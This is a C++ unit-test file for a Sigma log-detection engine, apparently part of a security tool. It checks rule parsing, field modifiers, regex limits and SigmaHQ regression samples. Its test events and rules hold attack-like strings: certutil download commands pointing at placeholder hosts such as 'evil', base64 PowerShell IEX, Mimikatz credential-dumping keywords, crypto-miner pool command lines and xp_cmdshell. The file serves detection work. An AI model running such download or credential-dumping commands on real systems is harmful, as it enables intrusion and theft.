#include "detect/sigma/sigma.h"

#include <filesystem>
#include <iostream>
#include <map>
#include <set>

#include <gtest/gtest.h>
#include <yaml-cpp/yaml.h>

#include "core/mapped_file.h"
#include "formats/evtx/evtx.h"
#include "intel/indicator.h"
#include "normalize/evtx.h"
#include "normalize/windows_messages.h"
#include "support/evtx_events.h"
#include "support/evtx_writer.h"

namespace msw::detect::sigma {
namespace {
namespace fs = std::filesystem;

model::Event sysmon1(std::initializer_list<std::pair<std::string, std::string>> fields) {
  model::Event e;
  e.product = "windows";
  e.service = "microsoft-windows-sysmon/operational";
  e.set(model::Field::EventID, "1");
  for (const auto& [k, v] : fields) e.set(std::string_view(k), v);
  return e;
}

Rule one(std::string_view yaml) {
  Diagnostics d;
  auto rules = load_rules(yaml, "test.yml", d);
  for (const auto& x : d.items()) ADD_FAILURE() << x.detail;
  EXPECT_EQ(rules.size(), 1u);
  return rules.empty() ? Rule{} : rules[0];
}

TEST(Sigma, SelectionsModifiersAndConditions) {
  Rule r = one(R"(title: certutil download
id: 1
logsource: {category: process_creation, product: windows}
detection:
  selection_img:
    - Image|endswith: '\certutil.exe'
    - OriginalFileName: 'CertUtil.exe'
  selection_flags:
    CommandLine|contains: ['urlcache ', 'verifyctl ']
  selection_http:
    CommandLine|contains: 'http'
  filter:
    CommandLine|contains|all: ['microsoft.com', 'update']
  condition: all of selection_* and not filter
level: high
tags: [attack.t1105]
)");
  EXPECT_TRUE(rule_matches(r, sysmon1({{"Image", "C:\\Windows\\System32\\CERTUTIL.exe"},
                                       {"CommandLine", "certutil -urlcache -f http://x/a.exe a.exe"}})));
  EXPECT_FALSE(rule_matches(r, sysmon1({{"Image", "C:\\x\\certutil.exe"}, {"CommandLine", "certutil -dump"}})));
  EXPECT_FALSE(rule_matches(r, sysmon1({{"Image", "C:\\x\\certutil.exe"},
                                        {"CommandLine", "certutil -urlcache http://microsoft.com/update"}})));
  // Security 4688 carries the same facts under its own names.
  model::Event sec;
  sec.product = "windows";
  sec.service = "security";
  sec.set(model::Field::EventID, "4688");
  sec.set(std::string_view("NewProcessName"), "C:\\Windows\\System32\\certutil.exe");
  sec.set(model::Field::CommandLine, "certutil.exe -verifyctl -f http://evil/x");
  EXPECT_TRUE(rule_matches(r, sec));
  model::Event wrong_channel = sysmon1({{"Image", "x\\certutil.exe"}, {"CommandLine", "urlcache http"}});
  wrong_channel.set(model::Field::EventID, "3");
  EXPECT_FALSE(rule_matches(r, wrong_channel));
}

TEST(Sigma, WildcardsEscapesRegexNumbersAndNull) {
  Rule r = one(R"(title: t
logsource: {product: windows, service: security}
detection:
  a: {TargetUserName: 'adm?n*', Status|re: '^0xC000007[12]$'}
  b: {LogonType|gte: 10}
  c: {WorkstationName: null}
  d: {TargetUserName: 'lit\*eral'}
  condition: (a and b) or (c and d)
)");
  model::Event e;
  e.product = "windows";
  e.service = "security";
  e.set(model::Field::TargetUserName, "Administrator");
  e.set(model::Field::Status, "0xC0000071");
  e.set(model::Field::LogonType, "10");
  EXPECT_TRUE(rule_matches(r, e));
  e.set(model::Field::LogonType, "3");
  EXPECT_FALSE(rule_matches(r, e));
  model::Event lit;
  lit.product = "windows";
  lit.service = "security";
  lit.set(model::Field::TargetUserName, "lit*eral");
  EXPECT_TRUE(rule_matches(r, lit));  // no WorkstationName: null matches
  lit.set(model::Field::TargetUserName, "litXeral");
  EXPECT_FALSE(rule_matches(r, lit));
}

TEST(Sigma, Base64OffsetWindashCidrKeywordsAndLinux) {
  Rule b64 = one(R"(title: t
logsource: {category: process_creation, product: windows}
detection:
  s: {CommandLine|base64offset|contains: 'IEX'}
  w: {CommandLine|windash|contains: ' -enc '}
  condition: s or w
)");
  // "IEX (New" at three offsets inside a base64 blob
  for (std::string blob : {"SUVYIChOZXc=", "IElFWCAoTmV3", "ICBJRVggKE5ldw=="})
    EXPECT_TRUE(rule_matches(b64, sysmon1({{"CommandLine", "powershell -e " + blob}}))) << blob;
  EXPECT_TRUE(rule_matches(b64, sysmon1({{"CommandLine", "powershell /enc AAAA"}})));
  Rule net = one(R"(title: t
logsource: {category: network_connection, product: linux}
detection:
  s: {DestinationIp|cidr: '203.0.113.0/24', DestinationPort: 3333}
  condition: s
)");
  model::Event c;
  c.category = "network_connection";
  c.product = "linux";
  c.set(model::Field::DestinationIp, "203.0.113.77");
  c.set(model::Field::DestinationPort, "3333");
  EXPECT_TRUE(rule_matches(net, c));
  c.set(model::Field::DestinationIp, "203.0.114.1");
  EXPECT_FALSE(rule_matches(net, c));
  Rule kw = one(R"(title: t
logsource: {product: linux, service: auth}
detection:
  keywords: ['Failed password for invalid user']
  condition: keywords
)");
  model::Event a;
  a.product = "linux";
  a.service = "auth";
  a.set(model::Field::Message, "Nov 1 sshd[1]: Failed password for invalid user x from 1.2.3.4");
  EXPECT_TRUE(rule_matches(kw, a));
  // A keyword is found inside one value, in any case, whatever else the event holds (values are searched together,
  // so a keyword split over two values, or around a NUL in one, must not match).
  Rule mimikatz = one(R"(title: t
logsource: {product: windows}
detection:
  keywords: ['sekurlsa::logonpasswords', 'gentilkiwi']
  condition: keywords
)");
  model::Event w;
  w.product = "windows";
  w.service = "security";
  w.set(model::Field::CommandLine, "sekurlsa::");
  w.set(model::Field::Message, "logonpasswords");
  w.set(std::string_view("RareField"), std::string("gentil\0kiwi", 11));
  EXPECT_FALSE(rule_matches(mimikatz, w));
  w.set(std::string_view("OtherRareField"), "by GentilKiwi (Benjamin DELPY)");
  EXPECT_TRUE(rule_matches(mimikatz, w));
  model::Event w2 = w;
  w2.extra.clear();
  w2.set(model::Field::Message, "Invoke-Mimikatz SEKURLSA::LogonPasswords exit");
  EXPECT_TRUE(rule_matches(mimikatz, w2));
}

TEST(Sigma, UnsupportedRulesAreReportedNotFatal) {
  Diagnostics d;
  auto rules = load_rules(R"(title: a
logsource: {product: windows}
detection: {s: {x|frobnicate: 1}, condition: s}
---
title: b
logsource: {product: windows}
detection: {s: {x: 1}, condition: s | count() > 5}
---
title: c
logsource: {product: windows}
detection: {s: {x: 1}, condition: s}
---
: : not yaml [
)",
                          "multi.yml", d);
  EXPECT_EQ(rules.size(), 1u);
  EXPECT_GE(d.size(), 2u);
}

TEST(Sigma, ExpandPlaceholdersAndDotAll) {
  const std::string_view yaml = R"(title: remote registry from a non-admin host
id: 7
logsource: {product: windows, category: process_creation}
detection:
  selection: {CommandLine|contains: 'reg add'}
  filter: {ParentImage|expand: '%admin_tools%', User|expand: '%domain%\%admins%'}
  condition: selection and not filter
)";
  Diagnostics d;
  EXPECT_TRUE(load_rules(yaml, "p.yml", d).empty()) << "a placeholder without a value cannot be compiled";
  ASSERT_EQ(d.size(), 1u);
  EXPECT_NE(d.items()[0].detail.find("%admin_tools%"), std::string::npos);
  const Placeholders values = {
      {"admin_tools", {"C:\\Tools\\admin.exe", "*\\mmc.exe"}}, {"domain", {"CORP"}}, {"admins", {"alice", "bob"}}};
  Diagnostics d2;
  auto rules = load_rules(yaml, "p.yml", d2, &values);
  ASSERT_EQ(rules.size(), 1u) << (d2.items().empty() ? "" : d2.items()[0].detail);
  EXPECT_TRUE(rule_matches(
      rules[0],
      sysmon1({{"CommandLine", "reg add HKLM\\x"}, {"ParentImage", "C:\\x\\mmc.exe"}, {"User", "CORP\\mallory"}})));
  EXPECT_FALSE(rule_matches(
      rules[0],
      sysmon1({{"CommandLine", "reg add HKLM\\x"}, {"ParentImage", "C:\\windows\\mmc.exe"}, {"User", "corp\\BOB"}})));

  Rule dotall = one(R"(title: s
logsource: {product: windows, category: process_creation}
detection:
  sel: {CommandLine|re|s: 'start.+end'}
  condition: sel
)");
  EXPECT_TRUE(rule_matches(dotall, sysmon1({{"CommandLine", "start\nmiddle\nend"}})));
  Rule plain = one(R"(title: no s
logsource: {product: windows, category: process_creation}
detection:
  sel: {CommandLine|re: 'start.+end'}
  condition: sel
)");
  EXPECT_FALSE(rule_matches(plain, sysmon1({{"CommandLine", "start\nmiddle\nend"}})));
}

// SigmaHQ's regression data: for each sample, the rule its info.yml names must fire on its EVTX.
TEST(SigmaCorpus, RegressionSamplesFireTheirRules) {
  const fs::path root = fs::path(MSW_CORPUS_DIR) / "sigma/sigmahq";
  if (!fs::exists(root / "regression_data")) GTEST_SKIP() << "corpus not present";
  Diagnostics d;
  std::vector<std::string> dirs;
  for (const char* sub :
       {"rules", "rules-emerging-threats", "rules-threat-hunting", "rules-compliance", "rules-placeholder"})
    if (fs::exists(root / sub)) dirs.push_back((root / sub).string());
  auto rules = load_rule_paths(dirs, d);
  std::map<std::string, const Rule*> by_id;
  std::vector<const Rule*> all;
  for (const auto& r : rules) {
    by_id[r.id] = &r;
    all.push_back(&r);
  }
  // Matching goes through the index, as in scans: it must not lose a rule's events.
  const RuleIndex index(all);
  std::vector<const Rule*> matched;
  size_t windows_total = 0, windows_loaded = 0;
  for (const auto& r : rules)
    if (r.logsource.product == "windows") ++windows_loaded;
  windows_total = windows_loaded;
  for (const auto& x : d.items())
    if (x.code == "sigma.unsupported" && x.evidence.find("/windows/") != std::string::npos) ++windows_total;
  size_t samples = 0, fired = 0;
  std::vector<std::string> misses;
  for (fs::recursive_directory_iterator it(root / "regression_data"), end; it != end; ++it) {
    if (it->path().filename() != "info.yml") continue;
    YAML::Node info = YAML::LoadFile(it->path().string());
    const std::string id = info["rule_metadata"][0]["id"].as<std::string>();
    for (const auto& t : info["regression_tests_info"]) {
      if (t["type"].as<std::string>() != "evtx") continue;
      ++samples;
      const fs::path evtx = root / t["path"].as<std::string>();
      auto rit = by_id.find(id);
      if (rit == by_id.end()) {
        misses.push_back(id + " (rule did not load)");
        continue;
      }
      auto file = MappedFile::open(evtx.string());
      if (!file) {
        misses.push_back(id + " (no evtx)");
        continue;
      }
      Diagnostics pd;
      auto fi = formats::evtx::read_file_info(file->bytes(), evtx.string(), pd);
      bool hit = false;
      if (fi) {
        formats::evtx::ChunkParser parser(file->bytes(), evtx.string());
        for (uint32_t c = 0; c < fi->chunks_in_file && !hit; ++c)
          parser.parse_chunk(c, false, pd, [&](const formats::evtx::Record& rec) {
            model::Event ev;
            normalize::evtx_record_event(rec, evtx.string(), ev);
            matched.clear();
            index.match(ev, matched);
            hit = hit || std::find(matched.begin(), matched.end(), rit->second) != matched.end();
          });
      }
      if (hit)
        ++fired;
      else
        misses.push_back(id + " " + rit->second->title);
    }
  }
  std::cout << "sigma regression: " << fired << "/" << samples << " samples fire their rule; Windows rules loaded "
            << windows_loaded << "/" << windows_total << "\n";
  for (size_t i = 0; i < misses.size() && i < 40; ++i) std::cout << "  miss: " << misses[i] << "\n";
  EXPECT_GE(samples, 200u);
  EXPECT_EQ(fired, samples) << "every regression sample must fire its rule";
  EXPECT_GE(windows_loaded * 100, windows_total * 99) << "at least 99% of SigmaHQ's Windows rules load";
}

TEST(Sigma, BuiltInRulesLoadAndFire) {
  Diagnostics d;
  auto rules = load_rule_paths({std::string(MSW_SOURCE_DIR) + "/data/rules/sigma"}, d);
  EXPECT_EQ(d.size(), 0u);
  ASSERT_EQ(rules.size(), 18u);  // 1 detection rule, 5 correlation files (17 documents)
  const Rule* miner = nullptr;
  for (const auto& r : rules)
    if (r.title == "Crypto Miner Command Line") miner = &r;
  ASSERT_TRUE(miner);
  model::Event linux_proc;
  linux_proc.category = "process_creation";
  linux_proc.product = "linux";
  linux_proc.set(model::Field::CommandLine, "/tmp/kdevtmpfsi -o pool.example:3333 -u 4" + std::string(94, 'A') + " -k");
  EXPECT_TRUE(rule_matches(*miner, linux_proc));
  EXPECT_TRUE(rule_matches(*miner, sysmon1({{"CommandLine", "x.exe -o stratum+tcp://p:3333"}})));
  EXPECT_FALSE(rule_matches(*miner, sysmon1({{"CommandLine", "notepad.exe"}})));
}

}  // namespace
}  // namespace msw::detect::sigma

namespace msw::detect::sigma {
namespace {

model::Event windows_event(std::string service, std::string id,
                           std::initializer_list<std::pair<std::string, std::string>> fields) {
  model::Event e;
  e.product = "windows";
  e.service = std::move(service);
  e.set(model::Field::EventID, std::move(id));
  for (const auto& [k, v] : fields) e.set(std::string_view(k), v);
  return e;
}

// Item 5: Sigma's Data is the container of unnamed <Data> values (MSSQL, classic PowerShell, ESENT, MSI).
TEST(Sigma, DataMatchesUnnamedDataValues) {
  Rule xp = one(R"(title: MSSQL XPCmdshell Option Change
id: 2
logsource: {product: windows, service: application}
detection:
  selection:
    Provider_Name|contains: 'MSSQL'
    EventID: 15457
    Data|contains: 'xp_cmdshell'
  condition: selection
level: high
)");
  Rule posh = one(R"(title: classic powershell host
id: 3
logsource: {product: windows, category: ps_classic_start}
detection:
  selection:
    Data|contains|all: ['HostName=ConsoleHost', 'powershell.exe -enc']
  condition: selection
level: medium
)");
  // Through the EVTX writer's unnamed <Data> elements, as SQL Server writes them.
  test::EvtxEvent rec;
  rec.event_id = 15457;
  rec.provider = "MSSQLSERVER";
  rec.channel = "Application";
  rec.data = {{"", "xp_cmdshell"}, {"", "0"}, {"", "1"}};
  auto events = test::evtx_events(test::write_evtx({rec}).bytes, "Application.evtx");
  ASSERT_EQ(events.size(), 1u);
  EXPECT_EQ(events[0].value("Data_1"), "xp_cmdshell");
  EXPECT_TRUE(rule_matches(xp, events[0]));
  auto other =
      windows_event("application", "15457", {{"Provider_Name", "MSSQLSERVER"}, {"Data_1", "show advanced options"}});
  EXPECT_FALSE(rule_matches(xp, other));
  // |all across the container: the values may sit in different Data elements.
  auto classic = windows_event("windows powershell", "400",
                               {{"Data_1", "Available"},
                                {"Data_2", "None"},
                                {"Data_3",
                                 "NewEngineState=Available\n\tHostName=ConsoleHost\n\tHostApplication=powershell.exe "
                                 "-enc SQBFAFgA"}});
  EXPECT_TRUE(rule_matches(posh, classic));
  EXPECT_FALSE(rule_matches(posh, windows_event("windows powershell", "400", {{"Data_1", "HostName=ConsoleHost"}})));
}

// Item 6: message codes match in both forms, in the rule index's prefilter too.
TEST(Sigma, MessageCodesMatchAsWindowsRendersThem) {
  Diagnostics d;
  auto rules = load_rules(R"(title: written
id: 4
logsource: {product: windows, service: security}
detection:
  selection:
    AccessList|contains: 'WriteData'
  condition: selection
level: high
---
title: gpo startup script
id: 5
logsource: {product: windows, service: security}
detection:
  selection:
    AccessList|contains: '%%4417'
  condition: selection
level: medium
---
title: deleted
id: 6
logsource: {product: windows, service: security}
detection:
  selection:
    AccessList|contains: 'DELETE'
  condition: selection
level: low
)",
                          "test.yml", d);
  ASSERT_EQ(rules.size(), 3u);
  // Enough rules in the bucket for the index to build its literal prefilter (no EventID: the literals anchor them).
  std::vector<Rule> padded = rules;
  for (int i = 0; i < 20; ++i) {
    auto more = load_rules("title: pad" + std::to_string(i) + "\nid: p" + std::to_string(i) +
                               "\nlogsource: {product: windows, service: security}\ndetection:\n  s:\n"
                               "    RelativeTargetName|contains: 'nothing" +
                               std::to_string(i) + "'\n  condition: s\n",
                           "pad.yml", d);
    padded.insert(padded.end(), more.begin(), more.end());
  }
  std::vector<const Rule*> ptrs;
  for (const auto& r : padded) ptrs.push_back(&r);
  const RuleIndex index(ptrs);
  auto e = windows_event(
      "security", "5145",
      {{"ShareName", "\\\\*\\IPC$"},
       {"RelativeTargetName", "svcctl"},
       {"AccessList", "%%1538\n\t\t\t\t%%1541\n\t\t\t\t%%4416\n\t\t\t\t%%4417\n\t\t\t\t%%4418\n\t\t\t\t"}});
  std::vector<const Rule*> matched;
  index.match(e, matched);
  std::set<std::string> ids;
  for (const Rule* r : matched) ids.insert(r->id);
  EXPECT_EQ(ids, (std::set<std::string>{"4", "5"}));
  std::string text;
  ASSERT_TRUE(normalize::render_message_codes("%%4416 %%4417 %%9999", text));
  EXPECT_EQ(text, "ReadData (or ListDirectory) WriteData (or AddFile) %%9999");
}

// Items 7 and 8: sequential counted repetitions are cheap (a GUID), nested ones multiply; |re sees the whole field.
TEST(Sigma, RegexesLoadAndSeeTheWholeField) {
  Rule guid = one(R"(title: guid
id: 7
logsource: {product: windows, category: process_creation}
detection:
  selection:
    CommandLine|re: '\{[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}\}'
  condition: selection
level: medium
)");
  EXPECT_TRUE(rule_matches(guid, sysmon1({{"CommandLine", "rundll32 {0a1b2c3d-0000-1111-2222-333344445555}"}})));
  EXPECT_TRUE(intel::regex_within_limits("[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}"));
  EXPECT_TRUE(intel::regex_within_limits("(ab{200}){4}"));
  EXPECT_FALSE(intel::regex_within_limits("(a{300}){300}"));
  EXPECT_FALSE(intel::regex_within_limits("((a{40}){40})"));
  EXPECT_TRUE(intel::regex_within_limits("[{(]{2}x{3}"));  // braces and parentheses inside a class are literal
  Rule iex = one(R"(title: obfuscated iex
id: 8
logsource: {product: windows, category: ps_script}
detection:
  selection:
    ScriptBlockText|re: '(?i)i`?e`?x\s*\('
  condition: selection
level: high
)");
  std::string block(30'000, 'A');
  block += " i`E`x ($payload)";
  model::Event e4104;
  e4104.product = "windows";
  e4104.service = "microsoft-windows-powershell/operational";
  e4104.set(model::Field::EventID, "4104");
  e4104.set("ScriptBlockText", block);
  EXPECT_TRUE(rule_matches(iex, e4104));
}

// Item 15: "N of" with N above one, and the log sources Hayabusa users hunt (AppLocker's four channels, AppX
// packaging, SMB server connectivity).
TEST(Sigma, CountedSelectionsAndMoreLogSources) {
  Rule two = one(R"(title: two of three
id: 9
logsource: {product: windows, category: process_creation}
detection:
  sel_a: {CommandLine|contains: 'alpha'}
  sel_b: {CommandLine|contains: 'beta'}
  sel_c: {CommandLine|contains: 'gamma'}
  condition: 2 of sel_*
level: low
)");
  EXPECT_FALSE(rule_matches(two, sysmon1({{"CommandLine", "alpha"}})));
  EXPECT_TRUE(rule_matches(two, sysmon1({{"CommandLine", "alpha gamma"}})));
  EXPECT_TRUE(rule_matches(two, sysmon1({{"CommandLine", "alpha beta gamma"}})));
  Rule applocker = one(R"(title: applocker blocked
id: 10
logsource: {product: windows, service: applocker}
detection:
  selection: {EventID: [8004, 8007, 8022, 8025]}
  condition: selection
level: medium
)");
  for (auto channel :
       {"microsoft-windows-applocker/exe and dll", "microsoft-windows-applocker/msi and script",
        "microsoft-windows-applocker/packaged app-deployment", "microsoft-windows-applocker/packaged app-execution"})
    EXPECT_TRUE(rule_matches(applocker, windows_event(channel, "8004", {}))) << channel;
  EXPECT_FALSE(rule_matches(applocker, windows_event("security", "8004", {})));
  for (auto [service, channel] : std::vector<std::pair<std::string, std::string>>{
           {"appxpackaging-om", "microsoft-windows-appxpackaging/operational"},
           {"smbserver-connectivity", "microsoft-windows-smbserver/connectivity"}}) {
    Rule r = one("title: t\nid: 11\nlogsource: {product: windows, service: " + service +
                 "}\ndetection:\n  s: {EventID: 1}\n  condition: s\nlevel: low\n");
    EXPECT_TRUE(rule_matches(r, windows_event(channel, "1", {}))) << service;
    // Through the index too, which buckets rules by channel.
    const RuleIndex index({&r});
    std::vector<const Rule*> matched;
    index.match(windows_event(channel, "1", {}), matched);
    EXPECT_EQ(matched.size(), 1u) << service;
  }
}

}  // namespace
}  // namespace msw::detect::sigma
